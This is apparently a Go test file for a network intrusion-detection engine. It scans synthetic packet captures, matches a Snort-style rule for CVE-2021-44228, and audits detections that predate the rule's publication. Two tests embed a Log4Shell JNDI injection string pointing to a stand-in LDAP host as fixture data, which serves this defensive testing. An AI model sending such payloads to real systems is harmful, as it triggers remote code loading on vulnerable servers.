package ids

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

// buildCapture writes a small pcap with one exploit session, one noise
// session, and one garbage (non-IPv4) frame.
func buildCapture(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	b := packet.NewBuilder(1)
	ts := time.Date(2021, 12, 11, 0, 0, 0, 0, time.UTC)
	write := func(seg packet.Segment) {
		t.Helper()
		frame, err := b.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(ts, frame); err != nil {
			t.Fatal(err)
		}
		ts = ts.Add(5 * time.Millisecond)
	}
	session := func(cli, srv packet.Endpoint, payload string) {
		write(packet.Segment{Src: cli, Dst: srv, Seq: 100, Flags: packet.FlagSYN})
		write(packet.Segment{Src: srv, Dst: cli, Seq: 500, Ack: 101, Flags: packet.FlagSYN | packet.FlagACK})
		write(packet.Segment{Src: cli, Dst: srv, Seq: 101, Ack: 501, Flags: packet.FlagACK, Payload: []byte(payload)})
		write(packet.Segment{Src: cli, Dst: srv, Seq: 101 + uint32(len(payload)), Ack: 501, Flags: packet.FlagFIN | packet.FlagACK})
		write(packet.Segment{Src: srv, Dst: cli, Seq: 501, Ack: 102 + uint32(len(payload)), Flags: packet.FlagFIN | packet.FlagACK})
	}
	session(
		packet.Endpoint{Addr: packet.MustAddr("203.0.113.5"), Port: 40001},
		packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080},
		"GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\n\r\n")
	session(
		packet.Endpoint{Addr: packet.MustAddr("203.0.113.6"), Port: 40002},
		packet.Endpoint{Addr: packet.MustAddr("10.0.0.2"), Port: 80},
		"GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n")
	// A non-IPv4 frame the decoder must count and skip.
	if err := w.WritePacket(ts, []byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0x86, 0xdd, 0xff}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func jndiEngine(t testing.TB) *Engine {
	t.Helper()
	r, err := rules.Parse(`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; reference:cve,2021-44228; sid:58722;)`)
	if err != nil {
		t.Fatal(err)
	}
	return NewEngine([]rules.DatedRule{{
		Rule:      r,
		Published: time.Date(2021, 12, 10, 9, 0, 0, 0, time.UTC),
	}}, Config{PortInsensitive: true})
}

func TestScanCapture(t *testing.T) {
	data := buildCapture(t)
	r, err := pcapio.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	events, stats, err := ScanCapture(r, jndiEngine(t))
	if err != nil {
		t.Fatal(err)
	}
	if stats.Packets != 11 {
		t.Errorf("packets = %d, want 11", stats.Packets)
	}
	if stats.DecodeErrors != 1 {
		t.Errorf("decode errors = %d, want 1", stats.DecodeErrors)
	}
	if stats.Sessions != 2 {
		t.Errorf("sessions = %d, want 2", stats.Sessions)
	}
	if len(events) != 1 || stats.MatchedEvents != 1 {
		t.Fatalf("events = %d / %d", len(events), stats.MatchedEvents)
	}
	ev := events[0]
	if ev.CVE != "2021-44228" || ev.SID != 58722 {
		t.Errorf("event = %+v", ev)
	}
	if ev.Dst.Port != 8080 {
		t.Errorf("event dst = %v", ev.Dst)
	}
	if ev.Bytes == 0 {
		t.Error("event bytes empty")
	}
	if stats.DistinctCVEs != 1 || stats.DistinctSrcIPs != 1 {
		t.Errorf("stats = %+v", stats)
	}
}

func TestScanCaptureTruncated(t *testing.T) {
	data := buildCapture(t)
	r, err := pcapio.NewReader(bytes.NewReader(data[:len(data)-4]))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ScanCapture(r, jndiEngine(t)); err == nil {
		t.Error("truncated capture scanned without error")
	}
}

func TestMatchSessionsNilStats(t *testing.T) {
	s := tcpasm.Session{
		Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.5"), Port: 40001},
		Server:     packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080},
		Start:      time.Now(),
		ClientData: []byte("GET /?x=${jndi:ldap://e} HTTP/1.1\r\n\r\n"),
		Complete:   true,
	}
	events := MatchSessions([]tcpasm.Session{s}, jndiEngine(t), nil, 1, nil)
	if len(events) != 1 {
		t.Fatalf("events = %d", len(events))
	}
}

func TestAuditLeadingMatches(t *testing.T) {
	pub := time.Date(2021, 12, 10, 9, 0, 0, 0, time.UTC)
	rulePub := map[int]time.Time{58722: pub, 999: pub}
	events := []Event{
		{Time: pub.Add(-6 * time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(-10 * time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(time.Hour), CVE: "2022-26134", SID: 999}, // no lead
		{Time: pub.Add(-100 * time.Hour), CVE: "", SID: 58722},  // noise ignored
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 1 {
		t.Fatalf("leading = %d, want 1", len(leading))
	}
	lm := leading[0]
	if lm.CVE != "2021-44228" {
		t.Errorf("CVE = %s", lm.CVE)
	}
	if lm.Lead != 10*time.Hour {
		t.Errorf("Lead = %v, want 10h (earliest)", lm.Lead)
	}
	if lm.Events != 2 || lm.TotalEvents != 3 {
		t.Errorf("events = %d/%d, want 2/3", lm.Events, lm.TotalEvents)
	}
}

func TestAuditSortedByLead(t *testing.T) {
	pub := time.Unix(1e9, 0)
	rulePub := map[int]time.Time{1: pub, 2: pub}
	events := []Event{
		{Time: pub.Add(-time.Hour), CVE: "short", SID: 1},
		{Time: pub.Add(-100 * time.Hour), CVE: "long", SID: 2},
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 2 || leading[0].CVE != "long" {
		t.Fatalf("ordering wrong: %+v", leading)
	}
}

func TestExclusions(t *testing.T) {
	e := NewExclusions(
		[2]string{"2021-0001", "rule fires on any API access"},
		[2]string{"2021-0002", "credential stuffing false positives"},
	)
	events := []Event{
		{CVE: "2021-0001"}, {CVE: "2021-0002"}, {CVE: "2021-44228"}, {CVE: ""},
	}
	kept := e.Apply(events)
	if len(kept) != 2 {
		t.Fatalf("kept = %d, want 2", len(kept))
	}
	for _, ev := range kept {
		if _, drop := e[ev.CVE]; drop {
			t.Errorf("excluded CVE %s survived", ev.CVE)
		}
	}
	if r, ok := e.Reason("2021-0001"); !ok || r == "" {
		t.Error("missing exclusion reason")
	}
	if _, ok := e.Reason("2021-44228"); ok {
		t.Error("reason for non-excluded CVE")
	}
	// Input not mutated, empty exclusions copy through.
	if len(events) != 4 {
		t.Error("input mutated")
	}
	if got := NewExclusions().Apply(events); len(got) != 4 {
		t.Errorf("empty exclusions dropped events: %d", len(got))
	}
}

// The study's own ruleset produces genuine leading matches (pre-publication
// exploitation), which the audit must surface rather than drop.
func TestAuditSurfacesGenuinePreDisclosure(t *testing.T) {
	pub := time.Date(2022, 5, 5, 0, 0, 0, 0, time.UTC)
	d := pub.Add(-407 * 24 * time.Hour) // F5 rule published long before... per Appendix E D-P = -407d
	rulePub := map[int]time.Time{900051: d}
	events := []Event{
		{Time: d.Add(-3 * 24 * time.Hour), CVE: "2022-1388", SID: 900051},
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 1 {
		t.Fatalf("leading = %d", len(leading))
	}
	if leading[0].Lead != 3*24*time.Hour {
		t.Errorf("Lead = %v", leading[0].Lead)
	}
}
